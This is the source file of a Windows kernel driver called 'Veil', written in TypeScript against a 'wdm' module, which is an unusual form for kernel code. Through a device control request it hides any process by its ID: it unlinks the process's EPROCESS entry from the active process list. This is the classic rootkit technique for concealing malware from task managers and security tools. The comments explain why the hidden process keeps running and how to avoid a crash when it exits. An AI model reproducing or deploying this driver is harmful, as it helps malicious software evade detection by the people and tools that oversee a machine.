/*
 * Veil: takes a process off the list that Windows answers from.
 *
 * Every EPROCESS hangs in one list, PsActiveProcessHead. Whoever asks which processes there are gets
 * what that list holds. The scheduler does not use it: it runs threads, and those go on. So a process
 * whose two neighbours are tied to each other works, and is in no list that a program can ask for.
 */
import {
  CTL_CODE,
  DbgPrint,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_SECURE_OPEN,
  FILE_DEVICE_UNKNOWN,
  IO_NO_INCREMENT,
  IRP_MJ_CLOSE,
  IRP_MJ_CREATE,
  IRP_MJ_DEVICE_CONTROL,
  InitializeListHead,
  IoCompleteRequest,
  IoCreateDevice,
  IoCreateSymbolicLink,
  IoDeleteDevice,
  IoDeleteSymbolicLink,
  IoGetCurrentIrpStackLocation,
  METHOD_BUFFERED,
  NT_SUCCESS,
  ObDereferenceObject,
  PsLookupProcessByProcessId,
  RTL_CONSTANT_STRING,
  RemoveEntryList,
  STATUS_INVALID_DEVICE_REQUEST,
  STATUS_INVALID_PARAMETER,
  STATUS_SUCCESS,
  out,
} from 'wdm'
import type {
  DEVICE_OBJECT,
  DRIVER_OBJECT,
  EPROCESS,
  IRP,
  NTSTATUS,
  ULONG,
  UNICODE_STRING,
} from 'wdm'

const IOCTL_PROCESS = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const DeviceName = RTL_CONSTANT_STRING('\\Device\\Veil')
const LinkName = RTL_CONSTANT_STRING('\\??\\Veil')

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_CREATE] = VeilCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLOSE] = VeilCreateClose
  DriverObject.MajorFunction[IRP_MJ_DEVICE_CONTROL] = VeilDeviceControl
  DriverObject.DriverUnload = VeilUnload
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(
    DriverObject,
    0,
    DeviceName,
    FILE_DEVICE_UNKNOWN,
    FILE_DEVICE_SECURE_OPEN,
    FALSE,
    device,
  )
  if (!NT_SUCCESS(status)) return status
  status = IoCreateSymbolicLink(LinkName, DeviceName)
  if (!NT_SUCCESS(status)) IoDeleteDevice(device.value)
  return status
}

/** Tie the neighbours of a process to each other. */
function Hide(Id: ULONG): NTSTATUS {
  const process = out<EPROCESS>()
  const status = PsLookupProcessByProcessId(Id, process)
  if (!NT_SUCCESS(status)) return status
  const links = process.value.ActiveProcessLinks
  RemoveEntryList(links)
  // When the process ends, the kernel takes the entry out once more. Pointing at itself it does no
  // harm then; left as it was, it would tie the wrong neighbours, and the machine would stop.
  InitializeListHead(links)
  ObDereferenceObject(process.value)
  DbgPrint('Veil: process %u is off the list\n', Id)
  return STATUS_SUCCESS
}

function VeilDeviceControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp).Parameters.DeviceIoControl
  let status: NTSTATUS = STATUS_INVALID_DEVICE_REQUEST
  if (request.IoControlCode === IOCTL_PROCESS)
    status =
      request.InputBufferLength < 4
        ? STATUS_INVALID_PARAMETER
        : Hide(Irp.AssociatedIrp.SystemBuffer.u32[0])
  return Complete(Irp, status)
}

function VeilCreateClose(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  return Complete(Irp, STATUS_SUCCESS)
}

function Complete(Irp: IRP, Status: NTSTATUS): NTSTATUS {
  Irp.IoStatus.Status = Status
  Irp.IoStatus.Information = 0
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return Status
}

function VeilUnload(DriverObject: DRIVER_OBJECT): void {
  IoDeleteSymbolicLink(LinkName)
  IoDeleteDevice(DriverObject.DeviceObject)
}
